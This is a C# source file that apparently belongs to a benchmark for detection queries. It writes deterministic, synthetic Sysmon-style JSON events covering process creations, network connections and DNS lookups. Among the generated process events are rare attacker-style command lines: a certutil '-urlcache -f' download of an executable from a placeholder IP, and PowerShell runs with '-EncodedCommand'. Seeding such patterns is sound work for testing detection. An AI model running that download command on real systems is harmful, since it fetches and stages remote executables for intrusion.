using System.Buffers;
using System.Globalization;
using System.Text.Json;

namespace ExfilQuery.Benchmarks;

/// <summary>Writes Sysmon-like JSON Lines events, the same bytes for the same count and seed on every machine:
/// 60 % process creations (EventCode 1, with hashes, GUIDs and command lines), 25 % network connections (3, with
/// <c>dest_ip</c>, <c>dest_port</c>, <c>bytes_out</c>) and 15 % DNS queries (22, with <c>QueryName</c>); 200 hosts,
/// 400 users; 1 in 500 process creations runs certutil.exe and 1 in 300 PowerShell with <c>-EncodedCommand</c>.
/// All fields are top-level; Windows paths carry JSON-escaped backslashes; quotes are written <c>\"</c>. About 370
/// bytes per event (1M events: 368 MB).</summary>
internal static class SysmonGenerator
{
    /// <summary>Bumped whenever the output changes, so a cached file of an older version is rewritten.</summary>
    public const int Version = 2;

    private static readonly string[] Programs =
    [
        @"C:\Windows\System32\svchost.exe", @"C:\Windows\System32\cmd.exe", @"C:\Windows\explorer.exe",
        @"C:\Program Files\Google\Chrome\Application\chrome.exe", @"C:\Windows\System32\conhost.exe",
        @"C:\Windows\System32\rundll32.exe", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        @"C:\Windows\System32\taskhostw.exe", @"C:\Windows\System32\backgroundTaskHost.exe", @"C:\Windows\System32\dllhost.exe",
    ];

    private static readonly string[] Domains = ["example.com", "contoso.local", "windowsupdate.com", "office.net", "github.com", "cdn.cloudflare.net"];
    /// <summary>Quotes and backslashes written as \" and \\ (as Splunk and Winlogbeat write them), not \u0022.</summary>
    private static readonly JsonWriterOptions Options = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private static readonly int[] Ports = [443, 80, 53, 445, 3389, 8080, 22, 135];

    /// <summary>Writes <paramref name="count"/> events to <paramref name="path"/>; returns the byte count.</summary>
    public static long Write(string path, int count, ulong seed = 0x5EED_2026_11_22UL)
    {
        var rng = new XorShift(seed);
        var buffer = new ArrayBufferWriter<byte>(4096);
        using var file = new FileStream(path, FileMode.Create, FileAccess.Write, FileShare.None, 1 << 20);
        var start = new DateTimeOffset(2026, 11, 1, 0, 0, 0, TimeSpan.Zero).ToUnixTimeSeconds();
        for (var i = 0; i < count; i++)
        {
            buffer.Clear();
            using (var w = new Utf8JsonWriter(buffer, Options))
            {
                w.WriteStartObject();
                var time = start + i * 0.25 + rng.Next(250) / 1000.0;
                w.WriteNumber("_time", Math.Round(time, 3));
                var host = "WS-" + rng.Next(200).ToString("D4", CultureInfo.InvariantCulture);
                w.WriteString("host", host);
                var kind = rng.Next(100);
                var code = kind < 60 ? 1 : kind < 85 ? 3 : 22;
                w.WriteNumber("EventCode", code);
                var image = Programs[rng.Next(Programs.Length)];
                w.WriteString("ProcessGuid", Guid(rng));
                switch (code)
                {
                    case 1:
                    {
                        var commandLine = "\"" + image + "\" /c task" + rng.Next(1000).ToString(CultureInfo.InvariantCulture);
                        if (rng.Next(500) == 0)
                        {
                            image = @"C:\Windows\System32\certutil.exe";
                            commandLine = "certutil.exe -urlcache -f http://198.51.100." + rng.Next(255).ToString(CultureInfo.InvariantCulture) + "/a.exe a.exe";
                        }
                        else if (rng.Next(300) == 0)
                        {
                            image = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
                            commandLine = "powershell.exe -NoP -EncodedCommand " + Hex(rng, 24);
                        }
                        w.WriteString("Image", image);
                        w.WriteString("OriginalFileName", Path.GetFileName(image.Replace('\\', '/')));
                        w.WriteString("CommandLine", commandLine);
                        w.WriteString("User", @"CORP\user" + rng.Next(400).ToString("D3", CultureInfo.InvariantCulture));
                        w.WriteString("ParentImage", Programs[rng.Next(Programs.Length)]);
                        w.WriteString("Hashes", "SHA256=" + Hex(rng, 32));
                        break;
                    }
                    case 3:
                        w.WriteString("Image", image);
                        w.WriteString("Protocol", "tcp");
                        w.WriteString("src_ip", "10.0." + rng.Next(256).ToString(CultureInfo.InvariantCulture) + "." + rng.Next(256).ToString(CultureInfo.InvariantCulture));
                        w.WriteString("dest_ip", "203.0.113." + rng.Next(256).ToString(CultureInfo.InvariantCulture));
                        w.WriteNumber("dest_port", Ports[rng.Next(Ports.Length)]);
                        // Mostly small transfers, a few large ones.
                        var bytes = rng.Next(100) < 3 ? 1_000_000 + rng.Next(50_000_000) : rng.Next(100) < 20 ? 10_000 + rng.Next(990_000) : rng.Next(10_000);
                        w.WriteNumber("bytes_out", bytes);
                        w.WriteNumber("bytes_in", rng.Next(100_000));
                        break;
                    default:
                    {
                        w.WriteString("Image", image);
                        var labels = 1 + rng.Next(4);
                        var name = string.Join(".", Enumerable.Range(0, labels).Select(_ => Hex(rng, 1 + rng.Next(8))));
                        w.WriteString("QueryName", name + "." + Domains[rng.Next(Domains.Length)]);
                        w.WriteString("QueryStatus", "0");
                        w.WriteString("QueryResults", "::ffff:203.0.113." + rng.Next(256).ToString(CultureInfo.InvariantCulture) + ";");
                        break;
                    }
                }
                w.WriteEndObject();
            }
            file.Write(buffer.WrittenSpan);
            file.WriteByte((byte)'\n');
        }
        return file.Length;
    }

    private static string Guid(XorShift rng) => "{" + Hex(rng, 4) + "-" + Hex(rng, 2) + "-" + Hex(rng, 2) + "-" + Hex(rng, 2) + "-" + Hex(rng, 6) + "}";

    private static string Hex(XorShift rng, int bytes)
    {
        Span<byte> b = stackalloc byte[bytes];
        for (var i = 0; i < bytes; i++) b[i] = (byte)rng.Next(256);
        return Convert.ToHexString(b);
    }

    /// <summary>xorshift64*: a fixed algorithm, so the file does not depend on System.Random's implementation.</summary>
    private sealed class XorShift(ulong seed)
    {
        private ulong _state = seed == 0 ? 1 : seed;

        public int Next(int bound)
        {
            _state ^= _state >> 12;
            _state ^= _state << 25;
            _state ^= _state >> 27;
            return (int)((_state * 0x2545F4914F6CDD1DUL >> 33) % (ulong)bound);
        }
    }
}
